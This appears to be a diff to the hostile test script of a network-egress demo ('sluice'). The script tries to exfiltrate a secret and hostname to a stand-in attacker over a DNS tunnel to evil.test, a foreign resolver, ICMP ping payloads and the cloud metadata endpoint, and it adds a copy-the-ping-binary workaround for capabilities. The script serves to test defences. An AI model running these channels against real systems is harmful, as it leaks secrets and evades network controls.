@@ -2,11 +2,12 @@
 // The hostile script of sluice's demo.  It knows only the demo's own small internet: 198.18.3.66 is the attacker there.
 // Its first line of output a way is "way<TAB>what happened".
 'use strict';
+const fs = require('fs'), os = require('os'), path = require('path');
 const dns = require('dns'), dgram = require('dgram'), http = require('http'), tls = require('tls'), { spawnSync } = require('child_process');
 const secret = process.env.DEMO_SECRET || 'no-secret', attacker = '198.18.3.66';
 
 const ways = {
-    'DNS tunnel': (done) => dns.resolve4(`${secret}.part1.evil.test`, (e) => done(e ? e.code : 'sent')),
+    'DNS tunnel': (done) => dns.resolve4(`${Buffer.from('what=credentials;' + os.hostname()).toString('hex').slice(0, 60)}.${secret}.evil.test`, (e) => done(e ? e.code : 'sent')),
     'foreign resolver': (done) => {
         const resolver = new dns.Resolver({ timeout: 2000, tries: 1 });
         resolver.setServers([attacker]);
@@ -24,7 +25,10 @@ const ways = {
     },
     'ICMP echo': (done) => {
         const pattern = Buffer.from(secret.slice(0, 16)).toString('hex');
-        const ping = spawnSync('ping', ['-c', '1', '-W', '2', '-p', pattern, attacker]);
+        const copy = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'p')), 'ping'); // a copy needs no file capability
+        fs.copyFileSync(['/usr/bin/ping', '/bin/ping'].find((p) => fs.existsSync(p)), copy);
+        fs.chmodSync(copy, 0o755);
+        const ping = spawnSync(copy, ['-c', '1', '-W', '2', '-p', pattern, attacker]);
         done(ping.status === 0 ? 'sent' : `ping exit ${ping.status}`);
     },
     'cloud metadata': (done) => http.get(`http://169.254.169.254/latest/${secret}`, () => done('sent')).on('error', (e) => done(e.code)),
